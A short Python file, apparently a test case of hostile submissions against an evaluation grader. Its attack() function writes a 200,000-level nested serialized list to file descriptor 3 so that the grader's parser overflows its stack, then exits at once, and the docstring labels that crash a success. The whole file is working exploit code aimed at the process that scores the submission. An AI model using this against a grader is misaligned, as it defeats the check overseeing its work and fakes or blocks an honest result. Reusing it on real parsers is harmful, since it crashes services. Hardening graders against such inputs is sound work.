"""Success: a list in a list in a list overflows the grader's stack."""

import os
import struct


def attack(a):
    payload = (b"l" + struct.pack("<I", 1)) * 200_000 + b"N"
    frame = memoryview(b"GR" + struct.pack("<I", len(payload)) + payload)
    while frame:
        frame = frame[os.write(3, frame) :]
    os._exit(0)
